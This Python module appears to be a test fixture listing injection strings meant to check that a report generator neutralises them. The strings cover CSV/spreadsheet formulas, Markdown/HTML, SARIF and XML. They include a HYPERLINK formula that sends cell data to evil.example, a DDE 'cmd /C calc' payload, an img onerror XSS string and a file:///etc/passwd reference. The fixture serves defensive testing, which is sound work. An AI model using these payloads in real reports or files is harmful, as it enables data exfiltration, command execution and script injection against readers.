"""Texts that act in the programs that a report is opened with, where they are not made harmless."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "x;=1+1",
    'x"; "@SUM(1)',
    "\uff1d1+1",
    "%0A=1",
    "|calc",
)

MARKDOWN = (
    "[x](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "[x]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example",
    "www.evil.example",
    "mail@evil.example",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden",
    "&lt;b&gt;",
    "@admin look",
    "@org/team",
    "#1 closes #2",
    "fixes owner/name#3",
    "0123abcdef",
    "GH-12 PROJ-7",
    ":rocket:",
    "!merge",
    "```\n# owned\n```",
    "````\n~~~\n# owned",
    "`` ` ``",
    "a | b | c\n|---|---|\n| d |",
    "# owned",
    "\n\n# owned",
    "- [ ] task",
    "1. list",
    "> quote",
    "***bold*** __u__ ~~s~~ ==m==",
    "owned\n===",
    "\\",
    "\\`x",
    "|",
    "\\|",
    "$x$ $$y$$",
    "[^1]",
    "{color:red}x{color} h1. x",
)

SARIF = ("[x](https://evil.example)", "{0}", "}{", "\\[x](1)", "file:///etc/passwd")

XML = ("]]><x/>", "<!DOCTYPE x>", "&ent;", "<?php ?>", "\x00\x08\x0b\x0c\x1f", "\ufffe\uffff\ud800")

ATTACKS = (*FORMULAS, *MARKDOWN, *SARIF, *XML)
